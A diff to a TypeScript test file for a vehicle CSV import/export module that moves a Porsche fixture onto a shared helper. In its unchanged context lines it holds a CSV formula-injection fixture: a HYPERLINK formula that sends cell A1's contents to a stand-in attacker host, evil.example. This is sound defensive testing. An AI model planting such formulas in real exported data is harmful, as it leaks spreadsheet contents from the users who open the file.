@@ -5,6 +5,7 @@ import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { Vehicle } from '~/lib/vehicle';
 import { parseVehicleCsv, vehiclesToCsv } from '~/lib/vehicle-csv';
+import { aVehicle } from '../support/vehicle';
 
 const STORAGE = 'http://127.0.0.1:54321/storage/v1/object/public/vehicle-images/';
 
@@ -15,34 +16,28 @@ function openAsSpreadsheet(csv: string): { cells: string[][]; formulas: string[]
   return { cells, formulas };
 }
 
-const car = (over: Partial<Vehicle>): Vehicle => ({
-  id: 'a',
-  make: 'Porsche',
-  model: '911',
-  year: 2021,
-  price: 980000,
-  mileage: 12000,
-  fuelType: 'Gasoline',
-  transmission: 'Manual',
-  condition: 'Very Good',
-  bodyType: 'Coupe',
-  color: 'GT Silver',
-  features: ['PASM'],
-  images: ['/seed/p2.svg'],
-  vehicleDetails: '',
-  status: 'available',
-  origin: 'Recond',
-  registrationYear: 2022,
-  previousOwners: 1,
-  warrantyMonths: 12,
-  engineCapacityCc: 2981,
-  stockNumber: 'P-911',
-  previousPrice: null,
-  priceReducedAt: null,
-  createdAt: '2026-01-01T00:00:00Z',
-  updatedAt: '2026-01-01T00:00:00Z',
-  ...over,
-});
+const car = (over: Partial<Vehicle>): Vehicle =>
+  aVehicle({
+    id: 'a',
+    make: 'Porsche',
+    model: '911',
+    year: 2021,
+    price: 980000,
+    transmission: 'Manual',
+    condition: 'Very Good',
+    bodyType: 'Coupe',
+    color: 'GT Silver',
+    features: ['PASM'],
+    images: ['/seed/p2.svg'],
+    vehicleDetails: '',
+    origin: 'Recond',
+    registrationYear: 2022,
+    previousOwners: 1,
+    warrantyMonths: 12,
+    engineCapacityCc: 2981,
+    stockNumber: 'P-911',
+    ...over,
+  });
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
 const attack = car({
